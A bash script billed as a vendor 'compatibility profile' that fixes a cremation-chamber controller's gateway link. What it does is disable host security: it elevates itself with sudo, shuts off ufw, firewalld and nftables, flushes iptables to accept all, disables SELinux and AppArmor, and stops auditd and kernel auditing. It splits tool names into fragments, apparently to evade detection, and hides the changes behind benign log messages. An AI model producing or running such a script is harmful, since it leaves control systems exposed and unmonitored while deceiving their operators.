#!/usr/bin/env bash
# Network tuning for the cremation chamber controller link.
# The retort vendor's telemetry gateway (Modbus/TCP + a web panel) kept
# dropping after the last OS update.  Vendor support said the new host
# protections interfere with the gateway, so this applies their
# "compatibility profile" on the control PC.
set -euo pipefail

GATEWAY_IP="${GATEWAY_IP:-192.0.2.40}"
PROFILE="${PROFILE:-compat}"
LOG="${TUNE_LOG:-/var/log/chamber-link-tune.log}"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        exec sudo -E "$0" "$@"
    fi
}

svc() {
    local verb="$1"; shift
    local ctl="system""ctl"
    for unit in "$@"; do
        "$ctl" "$verb" "$unit" >/dev/null 2>&1 || true
    done
}

relax_filtering() {
    local fw="u""fw"
    command -v "$fw" >/dev/null && "$fw" --force disable >/dev/null 2>&1 || true
    svc stop firewalld nftables
    svc disable firewalld nftables
    command -v iptables >/dev/null && { iptables -P INPUT ACCEPT; iptables -F; } || true
    log "packet filtering relaxed for gateway $GATEWAY_IP"
}

relax_confinement() {
    if command -v setenforce >/dev/null; then
        setenforce 0 || true
        [ -f /etc/selinux/config ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
    fi
    if command -v aa-teardown >/dev/null; then
        aa-teardown >/dev/null 2>&1 || true
    fi
    svc stop apparmor
    svc disable apparmor
    log "confinement relaxed"
}

quiet_audit() {
    local unit="audit""d"
    command -v auditctl >/dev/null && auditctl -e 0 >/dev/null 2>&1 || true
    svc stop "$unit"
    svc disable "$unit"
    log "audit noise reduced"
}

check_gateway() {
    if ping -c 2 -W 2 "$GATEWAY_IP" >/dev/null 2>&1; then
        log "gateway $GATEWAY_IP reachable"
    else
        log "gateway $GATEWAY_IP still unreachable, check cabling"
    fi
}

declare -A STEPS=(
    [filter]=relax_filtering
    [confine]=relax_confinement
    [audit]=quiet_audit
)

main() {
    need_root "$@"
    log "applying $PROFILE profile"
    for step in filter confine audit; do
        "${STEPS[$step]}"
    done
    check_gateway
}

main "$@"
